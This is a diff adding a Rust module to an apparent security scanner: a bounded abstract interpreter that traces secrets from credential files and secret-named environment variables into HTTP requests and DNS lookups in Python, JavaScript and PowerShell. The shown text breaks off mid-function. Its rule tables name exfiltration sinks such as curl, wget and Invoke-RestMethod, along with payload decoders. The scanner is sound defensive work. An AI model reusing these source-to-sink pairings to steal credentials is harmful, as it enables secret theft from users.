@@ -1,0 +1,1441 @@
+//! Data flow inside one file: the Python and JavaScript/TypeScript analysers lower what they
+//! read into the small statement form of this module ([`Stmt`], [`Expr`]), and one bounded
+//! interpreter follows values through it — assignments, module constants, string building,
+//! path composition, list and dict literals and the loops over them, helper functions (their
+//! body is evaluated with the arguments of each call) and decoders of constant strings.
+//!
+//! A value is a small set of possible texts (unknown parts are holes, so a known host or path
+//! fragment survives `API + q`) plus the secrets it carries. What reads a secret, what carries a
+//! value on and what sends it out are rows of one table, [`MODELS`], shared by both languages:
+//! a finding is a *flow* from a source (a credential file, a secret-named environment variable)
+//! to a sink (a request, a DNS lookup), reported at the sink with the source's line. The work
+//! per file is bounded by [`MAX_STEPS`]: past it the rest of the file is not interpreted (the
+//! other rules still see it).
+
+use std::collections::HashMap;
+use std::rc::Rc;
+
+use super::knowledge;
+use super::rules;
+use super::sink::Sink;
+use super::text;
+
+/// Interpretation steps one file may take (each expression or statement evaluated is one):
+/// with loops run twice and helpers evaluated per call, no input costs more than this.
+pub(crate) const MAX_STEPS: u32 = 100_000;
+/// How many alternative texts a value keeps.
+const MAX_ALTERNATIVES: usize = 8;
+/// How long one text may grow.
+const MAX_TEXT: usize = 1024;
+/// How many elements a collection keeps.
+const MAX_ITEMS: usize = 32;
+/// How many secrets one value carries.
+const MAX_SECRETS: usize = 4;
+/// How deep helper calls are followed.
+const MAX_CALL_DEPTH: usize = 3;
+/// How deep the lowerers nest expressions before giving up on the rest (stack safety).
+pub(crate) const MAX_EXPR_DEPTH: u32 = 48;
+
+/// Text the file computes at run time.
+const HOLE: char = '\u{1}';
+/// Text computed at run time from a secret.
+const SECRET_HOLE: char = '\u{2}';
+
+/// The language a file was lowered from (rows of [`MODELS`] may be specific to one).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Lang {
+    Python,
+    JavaScript,
+    /// PowerShell: callee names are matched in lower case.
+    PowerShell,
+}
+
+/// An expression of the lowered form.
+#[derive(Debug, Clone)]
+pub(crate) enum Expr {
+    /// A constant string.
+    Str(String),
+    /// A constant that is not text (number, boolean, null).
+    Other,
+    /// A module imported under a name.
+    Module(String),
+    Var(String),
+    /// `object.name`
+    Attr(Box<Expr>, String),
+    /// `object[key]`
+    Index(Box<Expr>, Box<Expr>),
+    /// `a + b`, f-strings, template literals.
+    Concat(Vec<Expr>),
+    /// `a / b` (a path when `a` is one).
+    Slash(Box<Expr>, Box<Expr>),
+    /// `"…%s…" % args`
+    Percent(Box<Expr>, Box<Expr>),
+    /// `a or b`, `a ?? b`, `c ? a : b`: either value.
+    Either(Vec<Expr>),
+    /// List, tuple, set, dict or object literal; keys are kept when constant.
+    Build(Vec<(Option<String>, Expr)>),
+    /// A call (or `new`); `at` is its offset in the file.
+    Call {
+        callee: Box<Expr>,
+        args: Vec<Arg>,
+        at: usize,
+    },
+    /// A comprehension: `element` for each `vars` in `iter`.
+    Comprehension {
+        vars: Vec<String>,
+        iter: Box<Expr>,
+        element: Box<Expr>,
+    },
+    /// The environment variable the key names (`$env:NAME`).
+    EnvVar(Box<Expr>),
+    /// A function written where it is used (arrow function, lambda).
+    Function(Rc<Function>),
+    /// Something not modelled: its value is unknown but carries what its parts carry.
+    Opaque(Vec<Expr>),
+}
+
+/// An argument of a call.
+#[derive(Debug, Clone)]
+pub(crate) struct Arg {
+    /// The keyword (`data=` in Python); `None` for positional arguments.
+    pub key: Option<String>,
+    pub value: Expr,
+}
+
+/// A statement of the lowered form.
+#[derive(Debug, Clone)]
+pub(crate) enum Stmt {
+    /// `name = value`
+    Let(String, Expr),
+    /// `name[k] = value`, `name.x = value`: `value` is added to what `name` holds.
+    Update(String, Expr),
+    Eval(Expr),
+    /// `if`/`else`, `try`/`except`: every arm may run.
+    Branch(Vec<Vec<Stmt>>),
+    /// Any loop; `vars` take the elements of `iter` (`for x in [...]`).
+    Loop {
+        vars: Vec<String>,
+        iter: Expr,
+        body: Vec<Stmt>,
+    },
+    /// A function definition.
+    Def(Rc<Function>),
+    Return(Expr),
+}
+
+/// A function of the file.
+#[derive(Debug)]
+pub(crate) struct Function {
+    pub name: String,
+    pub params: Vec<String>,
+    pub body: Vec<Stmt>,
+}
+
+/// What a secret is.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum SecretKind {
+    /// A credential file (the path's description).
+    File,
+    /// A secret-named environment variable.
+    Env,
+}
+
+/// A secret a value carries, and where it was read.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Secret {
+    kind: SecretKind,
+    /// The path or the variable name.
+    what: String,
+    at: usize,
+}
+
+/// An abstract value.
+#[derive(Debug, Clone, Default)]
+struct Value {
+    /// The texts it may have; empty when unknown.
+    texts: Vec<String>,
+    /// The module, builtin or dotted name it stands for.
+    name: Option<String>,
+    /// A function of the file.
+    function: Option<Rc<Function>>,
+    /// Elements, when it is a collection.
+    items: Rc<Vec<Value>>,
+    /// The whole environment (`os.environ`, `process.env`).
+    environment: bool,
+    secrets: Vec<Secret>,
+}
+
+impl Value {
+    fn text(text: impl Into<String>) -> Value {
+        let mut text = text.into();
+        truncate(&mut text);
+        Value {
+            texts: vec![text],
+            ..Value::default()
+        }
+    }
+
+    fn named(name: impl Into<String>) -> Value {
+        Value {
+            name: Some(name.into()),
+            ..Value::default()
+        }
+    }
+
+    fn unknown_carrying(secrets: Vec<Secret>) -> Value {
+        Value {
+            secrets,
+            ..Value::default()
+        }
+    }
+
+    /// The texts, a hole standing for an unknown value.
+    fn renderings(&self) -> Vec<String> {
+        if self.texts.is_empty() {
+            let hole = if self.secrets.is_empty() {
+                HOLE
+            } else {
+                SECRET_HOLE
+            };
+            return vec![hole.to_string()];
+        }
+        if self.secrets.is_empty() {
+            return self.texts.clone();
+        }
+        // A known text computed from a secret is still the secret's.
+        self.texts
+            .iter()
+            .map(|t| format!("{t}{SECRET_HOLE}"))
+            .collect()
+    }
+
+    fn carry(&mut self, secrets: &[Secret]) {
+        for secret in secrets {
+            if self.secrets.len() >= MAX_SECRETS {
+                break;
+            }
+            if !self.secrets.contains(secret) {
+                self.secrets.push(secret.clone());
+            }
+        }
+    }
+
+    /// Either value: alternatives of both (an unknown side adds none), secrets of both.
+    fn join(&mut self, other: &Value) {
+        for text in &other.texts {
+            if self.texts.len() >= MAX_ALTERNATIVES {
+                break;
+            }
+            if !self.texts.contains(text) {
+                self.texts.push(text.clone());
+            }
+        }
+        if self.name.is_none() {
+            self.name.clone_from(&other.name);
+        }
+        if self.function.is_none() {
+            self.function.clone_from(&other.function);
+        }
+        self.environment |= other.environment;
+        for item in other.items.iter() {
+            self.push_item(item.clone());
+        }
+        self.carry(&other.secrets);
+    }
+
+    /// Adds an element, keeping collections at most two levels deep (an element's own
+    /// elements are summarised by their texts and secrets), so that no value grows past
+    /// [`MAX_ITEMS`]² parts however the file nests them.
+    fn push_item(&mut self, mut item: Value) {
+        if self.items.len() >= MAX_ITEMS {
+            self.carry(&item.all_secrets());
+            return;
+        }
+        if item.items.iter().any(|inner| !inner.items.is_empty()) {
+            let summary: Vec<Value> = item
+                .items
+                .iter()
+                .map(|inner| Value {
+                    texts: inner.texts.clone(),
+                    secrets: inner.all_secrets(),
+                    ..Value::default()
+                })
+                .collect();
+            item.items = Rc::new(summary);
+        }
+        Rc::make_mut(&mut self.items).push(item);
+    }
+
+    /// The join of the elements (what a loop variable takes), or the value itself.
+    fn element(&self) -> Value {
+        let Some((first, rest)) = self.items.split_first() else {
+            return Value::unknown_carrying(self.secrets.clone());
+        };
+        let mut out = first.clone();
+        for item in rest {
+            out.join(item);
+        }
+        out.carry(&self.secrets);
+        out
+    }
+
+    /// Every secret in the value and its elements.
+    fn all_secrets(&self) -> Vec<Secret> {
+        let mut out = Value::default();
+        out.carry(&self.secrets);
+        for item in self.items.iter() {
+            out.carry(&item.all_secrets());
+        }
+        out.secrets
+    }
+}
+
+fn truncate(text: &mut String) {
+    if text.len() > MAX_TEXT {
+        let mut cut = MAX_TEXT;
+        while !text.is_char_boundary(cut) {
+            cut -= 1;
+        }
+        text.truncate(cut);
+    }
+}
+
+/// Concatenation of values: every combination of alternatives, capped.
+fn concat(values: &[Value]) -> Value {
+    let mut texts = vec![String::new()];
+    let mut out = Value::default();
+    for value in values {
+        let mut next = Vec::new();
+        for prefix in &texts {
+            for piece in value.renderings() {
+                if next.len() >= MAX_ALTERNATIVES {
+                    break;
+                }
+                let mut joined = format!("{prefix}{piece}");
+                truncate(&mut joined);
+                next.push(joined);
+            }
+        }
+        texts = next;
+        out.carry(&value.all_secrets());
+    }
+    // Texts keep their holes; the secrets are carried in `secrets`, so drop the secret marks
+    // that `renderings` added after known texts (they only matter inside a URL's host).
+    out.texts = texts;
+    out
+}
+
+/// The role a callee plays, as data.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Role {
+    /// Returns the home folder (`~`).
+    Home,
+    /// Joins its positional arguments as a path.
+    PathJoin,
+    /// Returns its first argument (or receiver) as it is: `expanduser`, `str`, `.decode()`.
+    Same,
+    /// Reads the file its first argument (or receiver) names.
+    ReadFile,
+    /// Reads the environment variable its first argument names.
+    EnvGet,
+    /// Decodes base64 text.
+    Base64,
+    /// Decodes hexadecimal text.
+    Hex,
+    /// Decodes base32 text.
+    Base32,
+    /// Decodes base85 text (Python's `b85` alphabet).
+    Base85,
+    /// Decodes Ascii85 text.
+    Ascii85,
+    /// `Buffer.from(text, encoding)`: decoded when the encoding is base64 or hex.
+    BufferFrom,
+    /// Imports the module its first argument names.
+    Import,
+    /// Adds its arguments to the receiver (`list.append`, `Array.push`).
+    Mutate,
+    /// `sep.join(items)`
+    JoinWith,
+    /// `items.join(sep)`
+    JoinItems,
+    /// `"{}".format(…)`
+    Format,
+    /// Sends a request to the URL of its first argument (or `url=`) with all its arguments.
+    Send,
+    /// Looks up the name of its first argument in DNS.
+    Resolve,
+}
+
+/// One row: in `lang` (or both), calling `callee` plays `role`. A callee starting with `.` is a
+/// method of any value.
+pub(crate) struct Model {
+    pub lang: Option<Lang>,
+    pub callee: &'static str,
+    pub role: Role,
+}
+
+const fn row(lang: Option<Lang>, callee: &'static str, role: Role) -> Model {
+    Model { lang, callee, role }
+}
+
+const PY: Option<Lang> = Some(Lang::Python);
+const JS: Option<Lang> = Some(Lang::JavaScript);
+const PS: Option<Lang> = Some(Lang::PowerShell);
+
+/// Sources, propagators and sinks of both languages.
+pub(crate) const MODELS: &[Model] = &[
+    // Paths.
+    row(PY, "pathlib.Path.home", Role::Home),
+    row(PY, "Path.home", Role::Home),
+    row(JS, "os.homedir", Role::Home),
+    row(PY, "os.path.join", Role::PathJoin),
+    row(PY, "pathlib.Path", Role::PathJoin),
+    row(PY, "Path", Role::PathJoin),
+    row(PY, ".joinpath", Role::PathJoin),
+    row(JS, "path.join", Role::PathJoin),
+    row(JS, "path.resolve", Role::PathJoin),
+    row(JS, "path.posix.join", Role::PathJoin),
+    row(PY, "os.path.expanduser", Role::Same),
+    row(PY, "os.path.expandvars", Role::Same),
+    row(PY, "os.path.abspath", Role::Same),
+    row(PY, "os.path.realpath", Role::Same),
+    row(PY, ".expanduser", Role::Same),
+    row(PY, ".resolve", Role::Same),
+    // Text that stays text.
+    row(PY, "str", Role::Same),
+    row(PY, "bytes", Role::Same),
+    row(JS, "String", Role::Same),
+    row(None, ".decode", Role::Same),
+    row(None, ".encode", Role::Same),
+    row(None, ".strip", Role::Same),
+    row(None, ".trim", Role::Same),
+    row(None, ".toString", Role::Same),
+    row(PY, ".join", Role::JoinWith),
+    row(JS, ".join", Role::JoinItems),
+    row(PY, ".format", Role::Format),
+    // Decoders of constant text.
+    row(PY, "base64.b64decode", Role::Base64),
+    row(PY, "base64.standard_b64decode", Role::Base64),
+    row(PY, "base64.urlsafe_b64decode", Role::Base64),
+    row(PY, "binascii.a2b_base64", Role::Base64),
+    row(PY, "base64.b32decode", Role::Base32),
+    row(PY, "base64.b32hexdecode", Role::Base32),
+    row(PY, "base64.b85decode", Role::Base85),
+    row(PY, "base64.a85decode", Role::Ascii85),
+    row(PY, "bytes.fromhex", Role::Hex),
+    row(PY, "binascii.unhexlify", Role::Hex),
+    row(JS, "atob", Role::Base64),
+    row(JS, "Buffer.from", Role::BufferFrom),
+    // Imports.
+    row(PY, "__import__", Role::Import),
+    row(PY, "importlib.import_module", Role::Import),
+    row(JS, "require", Role::Import),
+    // Sources.
+    row(PY, "open", Role::ReadFile),
+    row(PY, "io.open", Role::ReadFile),
+    row(PY, "codecs.open", Role::ReadFile),
+    row(PY, "builtins.open", Role::ReadFile),
+    row(PY, ".read_bytes", Role::ReadFile),
+    row(PY, ".read_text", Role::ReadFile),
+    row(PY, ".open", Role::ReadFile),
+    row(JS, "fs.readFileSync", Role::ReadFile),
+    row(JS, "fs.readFile", Role::ReadFile),
+    row(JS, "fs.promises.readFile", Role::ReadFile),
+    row(JS, "fs/promises.readFile", Role::ReadFile),
+    row(JS, "fs.createReadStream", Role::ReadFile),
+    row(PY, "os.getenv", Role::EnvGet),
+    row(PY, "os.environ.get", Role::EnvGet),
+    row(PY, "os.environ.pop", Role::EnvGet),
+    row(PY, "os.environ.setdefault", Role::EnvGet),
+    row(JS, "Deno.env.get", Role::EnvGet),
+    // Collections that grow.
+    row(None, ".append", Role::Mutate),
+    row(None, ".extend", Role::Mutate),
+    row(None, ".add", Role::Mutate),
+    row(None, ".update", Role::Mutate),
+    row(None, ".insert", Role::Mutate),
+    row(None, ".push", Role::Mutate),
+    row(None, ".set", Role::Mutate),
+    // Sinks: requests.
+    row(PY, "requests.get", Role::Send),
+    row(PY, "requests.post", Role::Send),
+    row(PY, "requests.put", Role::Send),
+    row(PY, "requests.patch", Role::Send),
+    row(PY, "requests.request", Role::Send),
+    row(PY, "httpx.get", Role::Send),
+    row(PY, "httpx.post", Role::Send),
+    row(PY, "httpx.put", Role::Send),
+    row(PY, "urllib.request.urlopen", Role::Send),
+    row(PY, "urllib.request.Request", Role::Send),
+    row(PY, "urllib2.urlopen", Role::Send),
+    row(PY, ".post", Role::Send),
+    row(PY, ".put", Role::Send),
+    row(JS, "fetch", Role::Send),
+    row(JS, "axios", Role::Send),
+    row(JS, "axios.get", Role::Send),
+    row(JS, "axios.post", Role::Send),
+    row(JS, "axios.put", Role::Send),
+    row(JS, "got", Role::Send),
+    row(JS, "got.post", Role::Send),
+    row(JS, "https.request", Role::Send),
+    row(JS, "http.request", Role::Send),
+    row(JS, "https.get", Role::Send),
+    row(JS, "http.get", Role::Send),
+    row(JS, "navigator.sendBeacon", Role::Send),
+    // Sinks: DNS.
+    row(PY, "socket.gethostbyname", Role::Resolve),
+    row(PY, "socket.gethostbyname_ex", Role::Resolve),
+    row(PY, "socket.getaddrinfo", Role::Resolve),
+    row(PY, "dns.resolver.resolve", Role::Resolve),
+    row(PY, "dns.resolver.query", Role::Resolve),
+    row(JS, "dns.lookup", Role::Resolve),
+    row(JS, "dns.resolve", Role::Resolve),
+    row(JS, "dns.resolve4", Role::Resolve),
+    row(JS, "dns.resolve6", Role::Resolve),
+    row(JS, "dns.resolveTxt", Role::Resolve),
+    row(JS, "dns.promises.lookup", Role::Resolve),
+    row(JS, "dns.promises.resolve", Role::Resolve),
+    // PowerShell: commands and static members, in lower case (`System.` dropped).
+    row(PS, "join-path", Role::PathJoin),
+    row(PS, "io.path.combine", Role::PathJoin),
+    row(PS, "resolve-path", Role::Same),
+    row(PS, "convert-path", Role::Same),
+    row(PS, "text.encoding.utf8.getstring", Role::Same),
+    row(PS, "text.encoding.ascii.getstring", Role::Same),
+    row(PS, "text.encoding.unicode.getstring", Role::Same),
+    row(PS, "convert.frombase64string", Role::Base64),
+    row(PS, "get-content", Role::ReadFile),
+    row(PS, "gc", Role::ReadFile),
+    row(PS, "cat", Role::ReadFile),
+    row(PS, "type", Role::ReadFile),
+    row(PS, "io.file.readalltext", Role::ReadFile),
+    row(PS, "io.file.readallbytes", Role::ReadFile),
+    row(PS, "io.file.readalllines", Role::ReadFile),
+    row(PS, "environment.getenvironmentvariable", Role::EnvGet),
+    row(PS, "invoke-restmethod", Role::Send),
+    row(PS, "irm", Role::Send),
+    row(PS, "invoke-webrequest", Role::Send),
+    row(PS, "iwr", Role::Send),
+    row(PS, "curl", Role::Send),
+    row(PS, "wget", Role::Send),
+    row(PS, "resolve-dnsname", Role::Resolve),
+    row(PS, "nslookup", Role::Resolve),
+    row(PS, "net.dns.gethostaddresses", Role::Resolve),
+    row(PS, "net.dns.gethostentry", Role::Resolve),
+];
+
+fn model(lang: Lang, callee: &str) -> Option<Role> {
+    let lower;
+    let callee = if lang == Lang::PowerShell {
+        lower = callee.to_ascii_lowercase();
+        lower.as_str()
+    } else {
+        callee
+    };
+    MODELS
+        .iter()
+        .find(|m| m.callee == callee && m.lang.is_none_or(|l| l == lang))
+        .map(|m| m.role)
+}
+
+/// Words of a file that make data flow worth following although no analyser saw a request:
+/// DNS lookups and the decoders whose payloads only the interpreter decodes.
+const FLOW_WITHOUT_REQUESTS: &[&str] = &[
+    "gethostby",
+    "getaddrinfo",
+    "dns",
+    "b32decode",
+    "b32hexdecode",
+    "b85decode",
+    "a85decode",
+];
+
+/// Whether a Python or JavaScript file needs the interpreter: every flow it reports ends in a
+/// request or DNS lookup (or decodes a payload), so a file the analysers saw use no network
+/// and that names no lookup or such decoder is skipped, which keeps whole-Skill time down.
+pub(crate) fn worth_following(source: &str, sink: &Sink) -> bool {
+    sink.uses_network()
+        || FLOW_WITHOUT_REQUESTS
+            .iter()
+            .any(|w| memchr::memmem::find(source.as_bytes(), w.as_bytes()).is_some())
+}
+
+/// Interprets the lowered `body` of one file, reporting flows into `sink`; returns how many
+/// steps it took (at most [`MAX_STEPS`]: the rest of the file is then not interpreted).
+pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> u32 {
+    let mut interp = Interp {
+        lang,
+        sink,
+        scopes: vec![HashMap::new()],
+        calls: Vec::new(),
+        returns: Vec::new(),
+        weak: 0,
+        steps: 0,
+    };
+    interp.block(body);
+    interp.steps
+}
+
+struct Interp<'s, 'a> {
+    lang: Lang,
+    sink: &'s mut Sink<'a>,
+    /// The module scope, then one per helper call being followed.
+    scopes: Vec<HashMap<String, Value>>,
+    /// Functions being followed (no recursion).
+    calls: Vec<*const Function>,
+    /// Values returned by the helper being followed.
+    returns: Vec<Value>,
+    /// Inside a branch or loop, assignments add to the old value instead of replacing it.
+    weak: u32,
+    steps: u32,
+}
+
+impl Interp<'_, '_> {
+    fn spend(&mut self) -> bool {
+        if self.steps >= MAX_STEPS {
+            return false;
+        }
+        self.steps += 1;
+        true
+    }
+
+    /// A variable, from the innermost scope out (closures see their callers' variables: an
+    /// over-approximation that costs nothing).
+    fn lookup(&self, name: &str) -> Option<&Value> {
+        self.scopes.iter().rev().find_map(|s| s.get(name))
+    }
+
+    fn assign(&mut self, name: &str, value: Value, add: bool) {
+        let scope = self.scopes.last_mut().expect("a scope");
+        match scope.get_mut(name) {
+            Some(old) if add || self.weak > 0 => old.join(&value),
+            _ => {
+                scope.insert(name.to_owned(), value);
+            }
+        }
+    }
+
+    fn block(&mut self, body: &[Stmt]) {
+        for stmt in body {
+            if !self.spend() {
+                return;
+            }
+            self.stmt(stmt);
+        }
+    }
+
+    fn stmt(&mut self, stmt: &Stmt) {
+        match stmt {
+            Stmt::Let(name, expr) => {
+                let value = self.eval(expr);
+                self.assign(name, value, false);
+            }
+            Stmt::Update(name, expr) => {
+                let value = self.eval(expr);
+                // `data[item] = v` adds an element; the collection carries its secrets.
+                let mut element = Value::unknown_carrying(value.all_secrets());
+                element.push_item(value);
+                self.assign(name, element, true);
+            }
+            Stmt::Eval(expr) => {
+                self.eval(expr);
+            }
+            Stmt::Branch(arms) => {
+                self.weak += 1;
+                for arm in arms {
+                    self.block(arm);
+                }
+                self.weak -= 1;
+            }
+            Stmt::Loop { vars, iter, body } => {
+                let iter = self.eval(iter);
+                let element = iter.element();
+                self.weak += 1;
+                for var in vars {
+                    // Unpacked tuples share the element's value; good enough for secrets.
+                    self.assign(var, element.clone(), false);
+                }
+                // Twice, so that what one pass adds (`data += …`) reaches the next.
+                self.block(body);
+                self.block(body);
+                self.weak -= 1;
+            }
+            Stmt::Def(function) => {
+                let value = Value {
+                    function: Some(function.clone()),
+                    ..Value::default()
+                };
+                let scope = self.scopes.last_mut().expect("a scope");
+                scope.insert(function.name.clone(), value);
+            }
+            Stmt::Return(expr) => {
+                let value = self.eval(expr);
+                if let Some(returned) = self.returns.last_mut() {
+                    returned.join(&value);
+                }
+            }
+        }
+    }
+
+    fn eval(&mut self, expr: &Expr) -> Value {
+        if !self.spend() {
+            return Value::default();
+        }
+        match expr {
+            Expr::Str(text) => Value::text(text.clone()),
+            Expr::Other => Value::default(),
+            Expr::Module(name) => Value::named(name.clone()),
+            Expr::Var(name) => match self.lookup(name) {
+                Some(value) => value.clone(),
+                // A builtin or a global of the runtime: its name.
+                None => Value::named(name.clone()),
+            },
+            Expr::Attr(object, attribute) => {
+                let object = self.eval(object);
+                self.attribute(object, attribute)
+            }
+            Expr::Index(object, key) => {
+                let object = self.eval(object);
+                let key = self.eval(key);
+                self.index(object, key)
+            }
+            Expr::Concat(parts) => {
+                let values: Vec<Value> = parts.iter().map(|p| self.eval(p)).collect();
+                concat(&values)
+            }
+            Expr::Slash(left, right) => {
+                let left = self.eval(left);
+                let right = self.eval(right);
+                if left
+                    .texts
+                    .iter()
+                    .any(|t| t.starts_with(['~', '/']) || t.starts_with(HOLE))
+                {
+                    concat(&[left, Value::text("/"), right])
+                } else {
+                    let mut out = Value::unknown_carrying(left.all_secrets());
+                    out.carry(&right.all_secrets());
+                    out
+                }
+            }
+            Expr::Percent(template, args) => {
+                let template = self.eval(template);
+                let args = self.eval(args);
+                let args = if args.items.is_empty() {
+                    vec![args]
+                } else {
+                    args.items.to_vec()
+                };
+                format_template(&template, &args, "%s")
+            }
+            Expr::Either(options) => {
+                let mut iter = options.iter();
+                let mut out = match iter.next() {
+                    Some(first) => self.eval(first),
+                    None => return Value::default(),
+                };
+                for option in iter {
+                    let value = self.eval(option);
+                    out.join(&value);
+                }
+                out
+            }
+            Expr::Build(entries) => {
+                let mut out = Value::default();
+                for (_, value) in entries {
+                    let value = self.eval(value);
+                    out.push_item(value);
+                }
+                out
+            }
+            Expr::Call { callee, args, at } => self.call(callee, args, *at),
+            Expr::Comprehension {
+                vars,
+                iter,
+                element,
+            } => {
+                let iter = self.eval(iter);
+                let item = iter.element();
+                self.weak += 1;
+                for var in vars {
+                    self.assign(var, item.clone(), false);
+                }
+                let value = self.eval(element);
+                self.weak -= 1;
+                let mut out = Value::default();
+                out.push_item(value);
+                out
+            }
+            Expr::EnvVar(key) => {
+                let key = self.eval(key);
+                self.env_read(&key, None)
+            }
+            Expr::Function(function) => Value {
+                function: Some(function.clone()),
+                ..Value::default()
+            },
+            Expr::Opaque(parts) => {
+                let mut out = Value::default();
+                for part in parts {
+                    let value = self.eval(part);
+                    out.carry(&value.all_secrets());
+                }
+                out
+            }
+        }
+    }
+
+    fn attribute(&mut self, object: Value, attribute: &str) -> Value {
+        if object.environment {
+            return self.env_read(&Value::text(attribute), None);
+        }
+        if let Some(name) = &object.name {
+            let qualified = format!("{name}.{attribute}");
+            if matches!(qualified.as_str(), "os.environ" | "process.env") {
+                return Value {
+                    name: Some(qualified),
+                    environment: true,
+                    ..Value::default()
+                };
+            }
+            return Value::named(qualified);
+        }
+        Value::unknown_carrying(object.all_secrets())
+    }
+
+    fn index(&mut self, object: Value, key: Value) -> Value {
+        if object.environment {
+            return self.env_read(&key, None);
+        }
+        if object.name.is_some() {
+            // `module['ex' + 'ec']` names a member.
+            if let [text] = key.texts.as_slice() {
+                return self.attribute(object, text);
+            }
+        }
+        let mut out = object.element();
+        out.carry(&object.secrets);
+        out
+    }
+
+    /// One environment variable read: a secret when its name says so.
+    fn env_read(&mut self, name: &Value, at: Option<usize>) -> Value {
+        let mut out = Value::default();
+        for variable in &name.texts {
+            if knowledge::is_secret_name(variable) {
+                out.carry(&[Secret {
+                    kind: SecretKind::Env,
+                    what: variable.clone(),
+                    at: at.unwrap_or(usize::MAX),
+                }]);
+            }
+        }
+        out
+    }
+
+    fn call(&mut self, callee: &Expr, args: &[Arg], at: usize) -> Value {
+        // A method: the receiver's value and the method's name.
+        let (receiver, method, function) = match callee {
+            Expr::Attr(object, method) => {
+                let object = self.eval(object);
+                if object.name.is_some() && !object.environment {
+                    let function = self.attribute(object, method);
+                    (None, None, function)
+                } else {
+                    (Some(object), Some(method.as_str()), Value::default())
+                }
+            }
+            other => (None, None, self.eval(other)),
+        };
+        let values: Vec<(Option<&str>, Value)> = args
+            .iter()
+            .map(|a| (a.key.as_deref(), self.eval(&a.value)))
+            .collect();
+        let positional: Vec<&Value> = values
+            .iter()
+            .filter(|(k, _)| k.is_none())
+            .map(|(_, v)| v)
+            .collect();
+        let first = positional.first().copied();
+
+        if let Some(helper) = &function.function {
+            return self.follow(helper.clone(), &values);
+        }
+        if let (Some(receiver), Some(method)) = (&receiver, method)
+            && receiver.environment
+            && matches!(method, "get" | "pop" | "setdefault")
+        {
+            return self.env_read(first.unwrap_or(&Value::default()), Some(at));
+        }
+        let role = match (&function.name, method) {
+            (Some(name), _) => model(self.lang, name),
+            (None, Some(method)) => model(self.lang, &format!(".{method}")),
+            _ => None,
+        };
+        // What a function works on is its first argument (PowerShell: or `-Path`); what a
+        // method works on, its receiver.
+        let named = |keys: &[&str]| {
+            values
+                .iter()
+                .find(|(k, _)| k.is_some_and(|k| keys.contains(&k)))
+                .map(|(_, v)| v.clone())
+        };
+        let subject = || -> Value {
+            match (&receiver, first) {
+                (Some(r), _) => r.clone(),
+                (None, Some(first)) => first.clone(),
+                (None, None) => named(&["path", "literalpath", "name"]).unwrap_or_default(),
+            }
+        };
+        let mut carried = Value::default();
+        if let Some(r) = &receiver {
+            carried.carry(&r.all_secrets());
+        }
+        for (_, v) in &values {
+            carried.carry(&v.all_secrets());
+        }
+        let result = match role {
+            Some(Role::Home) => Value::text("~"),
+            Some(Role::PathJoin) => {
+                let mut parts: Vec<Value> = Vec::new();
+                if let Some(r) = &receiver {
+                    parts.push(r.clone());
+                }
+                parts.extend(positional.iter().map(|v| (*v).clone()));
+                parts.extend(named(&["path"]));
+                parts.extend(named(&["childpath"]));
+                let mut pieces = Vec::new();
+                for (i, part) in parts.into_iter().enumerate() {
+                    if i > 0 {
+                        pieces.push(Value::text("/"));
+                    }
+                    pieces.push(part);
+                }
+                concat(&pieces)
+            }
+            Some(Role::Same) => {
+                let mut out = subject();
+                out.carry(&carried.secrets);
+                out.name = None;
+                out
+            }
+            Some(Role::BufferFrom) => {
+                let encoding = positional.get(1).and_then(|v| v.texts.first());
+                let role = match encoding.map(String::as_str) {
+                    Some("base64" | "base64url") => Role::Base64,
+                    Some("hex") => Role::Hex,
+                    _ => Role::Same,
+                };
+                if role == Role::Same {
+                    let mut out = subject();
+                    out.carry(&carried.secrets);
+                    out
+                } else {
+                    decode(role, &subject(), carried.secrets)
+                }
+            }
+            Some(codec @ (Role::Base32 | Role::Base85 | Role::Ascii85)) => {
+                // Encodings the string scan does not try on its own: the decoded payload is
+                // scanned like source here.
+                let input = subject();
+                let mut out = Value::unknown_carrying(carried.secrets.clone());
+                for text in &input.texts {
+                    let (bytes, name) = match codec {
+                        Role::Base32 => (text::decode_base32(text), "base32"),
+                        Role::Base85 => (text::decode_base85(text, false), "base85"),
+                        _ => (text::decode_base85(text, true), "ascii85"),
+                    };
+                    let Some(bytes) = bytes else { continue };
+                    if bytes.len() >= 16 {
+                        text::scan_decoded(&bytes, name, at, self.sink);
+                    }
+                    if let Ok(decoded) = String::from_utf8(bytes)
+                        && out.texts.len() < MAX_ALTERNATIVES
+                    {
+                        out.texts.push(decoded);
+                    }
+                }
+                out
+            }
+            Some(Role::Base64 | Role::Hex) => {
+                decode(role.unwrap_or(Role::Base64), &subject(), carried.secrets)
+            }
+            Some(Role::Import) => match first.and_then(|f| f.texts.first()) {
+                Some(module) => Value::named(
+                    module
+                        .strip_prefix("node:")
+                        .unwrap_or(module)
+                        .trim_end_matches(".js"),
+                ),
+                None => Value::default(),
+            },
+            Some(Role::ReadFile) => {
+                let path = subject();
+                let mut out = Value::unknown_carrying(carried.secrets.clone());
+                let texts = if mode_writes(&values) {
+                    &[][..]
+                } else {
+                    &path.texts[..]
+                };
+                for text in texts {
+                    let shown = text.replace([HOLE, SECRET_HOLE], "*").replace('\\', "/");
+                    if knowledge::sensitive_path(&shown).is_some() && !shown.ends_with(".pub") {
+                        text::report_read(&shown, at, self.sink);
+                        out.carry(&[Secret {
+                            kind: SecretKind::File,
+                            what: shown,
+                            at,
+                        }]);
+                    }
+                }
+                out
+            }
+            Some(Role::EnvGet) => self.env_read(first.unwrap_or(&Value::default()), Some(at)),
+            Some(Role::Mutate) => {
+                if let Some(Expr::Attr(object, _)) = Some(callee)
+                    && let Expr::Var(name) = object.as_ref()
+                {
+                    let mut element = Value::unknown_carrying(carried.secrets.clone());
+                    for v in &positional {
+                        element.push_item((*v).clone());
+                    }
+                    self.assign(name, element, true);
+                }
+                Value::unknown_carrying(carried.secrets)
+            }
+            Some(Role::JoinWith) => {
+                let separator = receiver.clone().unwrap_or_default();
+                let items = first.cloned().unwrap_or_default();
+                join_items(&items, &separator, carried.secrets)
+            }
+            Some(Role::JoinItems) => {
+                let items = receiver.clone().unwrap_or_default();
+                let separator = first.cloned().unwrap_or_else(|| Value::text(","));
+                join_items(&items, &separator, carried.secrets)
+            }
+            Some(Role::Format) => {
+                let template = receiver.clone().unwrap_or_default();
+                let args: Vec<Value> = positional.iter().map(|v| (*v).clone()).collect();
